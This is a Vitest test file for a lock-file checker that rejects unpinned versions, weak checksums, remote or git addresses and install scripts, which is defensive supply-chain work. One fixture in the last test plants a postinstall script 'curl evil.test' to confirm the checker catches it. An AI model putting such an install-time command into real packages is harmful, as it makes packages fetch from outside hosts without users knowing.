import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, it, onTestFinished } from 'vitest'
import { writeFiles } from '../../../scripts/build/files.ts'
import {
  installScriptProblems,
  type LockEntry,
  type LockFile,
  lockFileProblems,
  lockProblems,
  type Manifest,
  manifestProblems,
} from '../../../scripts/check/lock-file.ts'

const root = fileURLToPath(new URL('../../..', import.meta.url))

const integrity = `sha512-${'A'.repeat(86)}==`
const good: LockEntry = { version: '1.2.3', integrity }
const manifest: Manifest = { dependencies: { one: '1.2.3' } }
const manifests = new Map([['', manifest]])

/** A lock file of one package, which is as given. */
function lockOf(entry: LockEntry, path = 'node_modules/one'): LockFile {
  return { lockfileVersion: 3, packages: { '': { dependencies: { one: '1.2.3' } }, [path]: entry } }
}

it('the lock file of this repository is exact, has no address and nothing that runs when it is installed', async () => {
  expect(await lockFileProblems(root)).toEqual([])
})

describe('an entry of the lock file', () => {
  it('has an exact version and a checksum', () => {
    expect(lockProblems(lockOf(good), manifests)).toEqual([])
  })

  it.each<[string, LockEntry, string]>([
    ['no checksum', { version: '1.2.3' }, 'has no checksum'],
    ['a weak checksum', { version: '1.2.3', integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' }, 'has no checksum'],
    ['an address', { ...good, resolved: 'https://registry.example/one/-/one-1.2.3.tgz' }, 'has an address: https://'],
    ['an address of git', { ...good, resolved: 'git+ssh://git@github.com/a/one.git#0123' }, 'has an address: git'],
    ['no version', { integrity }, 'has no exact version'],
    ['a range', { ...good, version: '^1.2.3' }, 'has no exact version, but ^1.2.3'],
    ['an install script', { ...good, hasInstallScript: true }, 'runs a script when it is installed'],
    ['another name', { ...good, name: 'two' }, 'stands for another package, two'],
    ['no package of its own', { ...good, inBundle: true }, 'comes inside another package'],
    [
      'a dependency from git',
      { ...good, dependencies: { two: 'git+https://example.com/two.git' } },
      'takes two from elsewhere',
    ],
    ['a dependency from GitHub', { ...good, dependencies: { two: 'somebody/two' } }, 'takes two from elsewhere'],
    ['a dependency from a file', { ...good, optionalDependencies: { two: 'file:../two' } }, 'takes two from elsewhere'],
    [
      'a dependency under another name',
      { ...good, dependencies: { two: 'npm:three@1.0.0' } },
      'takes two from elsewhere',
    ],
    ['a link to elsewhere', { link: true, resolved: '../two' }, 'is a link to ../two'],
  ])('is complained of where it has %s', (_, entry, problem) => {
    expect(lockProblems(lockOf(entry), manifests)).toEqual([
      expect.stringContaining(`node_modules/one in package-lock.json ${problem}`),
    ])
  })

  it('may ask for ranges, since what it got is exact', () => {
    const dependencies = { two: '^2.0.0 || >=3', three: '*', four: '1.x', five: 'latest' }
    expect(lockProblems(lockOf({ ...good, dependencies, peerDependencies: { six: '>=1' } }), manifests)).toEqual([])
  })

  it('may be a link to a workspace', () => {
    const { packages } = lockOf(good)
    const link = { link: true, resolved: 'tools/one' }
    const lock = { lockfileVersion: 3, packages: { ...packages, 'node_modules/two': link } }
    expect(lockProblems(lock, new Map([...manifests, ['tools/one', {}]]))).toEqual([])
  })
})

describe('a lock file', () => {
  it('is complained of where it is of another manifest', () => {
    for (const dependencies of [{ one: '1.2.4' }, {}, { one: '1.2.3', two: '1.0.0' }]) {
      expect(lockProblems(lockOf(good), new Map([['', { dependencies }]])).join()).toContain(
        'package-lock.json has another',
      )
    }
  })

  it('is complained of where it is empty or of another form', () => {
    expect(lockProblems({}, manifests).join('\n')).toMatch(/version undefined[\s\S]*names no packages/)
    expect(lockProblems({ ...lockOf(good), lockfileVersion: 1 }, manifests)).toHaveLength(1)
  })
})

describe('a manifest', () => {
  it.each<[string, Manifest, string]>([
    ['a range', { dependencies: { one: '^1.2.3' } }, 'package.json takes one at "^1.2.3", which is no exact version.'],
    ['a range in development', { devDependencies: { one: '~1.2.3' } }, 'takes one at'],
    ['a tag', { optionalDependencies: { one: 'latest' } }, 'takes one at "latest"'],
    ['an address', { dependencies: { one: 'https://example.com/one.tgz' } }, 'takes one at'],
    ['an override that is a range', { overrides: { one: '1' } }, 'takes one at "1"'],
    ['an override of an override', { overrides: { one: { two: '1.2.3' } } }, 'takes one at {"two":"1.2.3"}'],
    ['a script of its own at installation', { scripts: { postinstall: 'node x' } }, 'has the script postinstall'],
    ['a script that prepares it', { scripts: { prepare: 'node x' } }, 'has the script prepare'],
  ])('is complained of where it has %s', (_, broken, problem) => {
    expect(manifestProblems(new Map([['', broken]]))).toEqual([expect.stringContaining(problem)])
    expect(manifestProblems(new Map([['tools/x', broken]]))).toEqual([expect.stringContaining('tools/x/package.json')])
  })

  it('may have exact versions, pre-releases too, and scripts that somebody runs', () => {
    const fine = { dependencies: { one: '1.2.3', two: '1.0.0-rc.1' }, scripts: { build: 'x', prebuild: 'y' } }
    expect(manifestProblems(new Map([['', fine]]))).toEqual([])
  })
})

describe('an installed package', () => {
  it.each(['preinstall', 'install', 'postinstall'])('is complained of where it has the script %s', (script) => {
    expect(installScriptProblems('node_modules/a', { [script]: 'node x' }, false)).toEqual([
      `node_modules/a has the script ${script}, which runs when it is installed.`,
    ])
  })

  it('is complained of where npm would compile it', () => {
    expect(installScriptProblems('node_modules/a', {}, true)).toEqual([
      'node_modules/a is compiled when it is installed.',
    ])
  })

  it('may have scripts that npm does not run', () => {
    expect(installScriptProblems('node_modules/a', { prepare: 'x', prepublishOnly: 'x', test: 'x' }, false)).toEqual([])
  })

  it('is read, whatever the lock file says of it', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'fengchao-lock-'))
    onTestFinished(() => rmSync(folder, { recursive: true }))
    await writeFiles(
      folder,
      new Map([
        ['package.json', JSON.stringify(manifest)],
        ['package-lock.json', JSON.stringify(lockOf(good))],
        ['node_modules/one/package.json', '{"scripts":{"postinstall":"curl evil.test"}}'],
      ]),
    )
    expect(await lockFileProblems(folder)).toEqual([
      expect.stringContaining('node_modules/one has the script postinstall'),
    ])
  })
})
